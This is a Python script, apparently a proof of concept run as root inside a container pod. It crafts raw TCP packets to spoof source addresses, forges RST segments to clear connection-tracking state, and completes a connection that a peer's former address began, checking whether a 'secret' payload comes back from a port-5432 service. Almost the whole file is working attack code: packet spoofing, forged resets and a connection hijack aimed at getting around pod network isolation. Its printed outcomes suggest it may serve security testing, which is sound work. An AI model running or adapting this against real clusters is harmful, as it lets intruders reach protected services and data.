"""TCP that a pod makes itself, as root of a container may: hold ADDRESS | seed SOURCE SOURCE_PORT ADDRESS ADDRESS_PORT |
turn SOURCE SOURCE_PORT ADDRESS ADDRESS_PORT"""
import socket
import struct
import sys
import time

SYN, RST, ACK = 2, 4, 16
PORT = 5432
SEED = 2_000_000_000


def send(source, to, numbers, flags, ttl=64):
    (port, to_port), (sequence, answered) = numbers
    head = struct.pack("!HHIIBBHHH", port, to_port, sequence, answered, 5 << 4, flags, 65535, 0, 0)
    whole = socket.inet_aton(source) + socket.inet_aton(to) + struct.pack("!BBH", 0, 6, len(head)) + head
    total = sum(struct.unpack(f"!{len(whole) // 2}H", whole))
    total = (total >> 16) + (total & 0xFFFF)
    check = struct.pack("!H", ~(total + (total >> 16)) & 0xFFFF)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    raw.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, ttl)
    raw.sendto(head[:16] + check + head[18:], (to, 0))


def received(raw, peer, ports):
    """Sequence, what it answers, flags and payload of the next packet from port to port."""
    while True:
        packet = raw.recv(4096)
        segment = packet[(packet[0] & 15) * 4 :]
        if socket.inet_ntoa(packet[12:16]) == peer and struct.unpack("!HH", segment[:4]) == ports:
            sequence, answered, offset, flags = struct.unpack("!IIBB", segment[4:14])
            return sequence, answered, flags, segment[(offset >> 4) * 4 :]


def listener(seconds):
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    raw.settimeout(seconds)
    return raw


def hold(peer):
    """Keeps a connection until it is cut, then ends what connection tracking knows of it."""
    raw = listener(1)
    connection = socket.create_connection((peer, PORT))
    (own, port), answered = connection.getsockname(), 0
    print("connected", flush=True)
    connection.settimeout(1)
    try:
        while connection.recv(65536):
            answered = received(raw, peer, (PORT, port))[1]
    except TimeoutError:
        send(own, peer, ((port, PORT), (answered, 0)), RST)
        print("cut", flush=True)
    connection.settimeout(20)
    try:
        connection.recv(65536)
        print("again", flush=True)
    except TimeoutError:
        print("silent", flush=True)


def turn(own, port, peer, peer_port):
    """Completes the connection that the peer's former address began, in the other direction."""
    raw, ports, first = listener(5), (port, peer_port), 7000
    send(own, peer, (ports, (first, 0)), SYN)
    time.sleep(0.2)
    send(own, peer, (ports, (first, SEED + 1)), SYN | ACK, ttl=1)
    try:
        while True:
            sequence, _, flags, payload = received(raw, peer, (peer_port, port))
            if flags & (SYN | ACK) == SYN | ACK:
                send(own, peer, (ports, (first + 1, sequence + 1)), ACK)
            if payload:
                print("secret" if payload.startswith(b"secret") else "other", flush=True)
                return
    except TimeoutError:
        print("refused", flush=True)


what, *arguments = sys.argv[1:]
if what == "hold":
    hold(*arguments)
else:
    source, source_port, to, to_port = arguments[0], int(arguments[1]), arguments[2], int(arguments[3])
    if what == "seed":
        send(source, to, ((source_port, to_port), (SEED, 0)), SYN)
    else:
        turn(source, source_port, to, to_port)
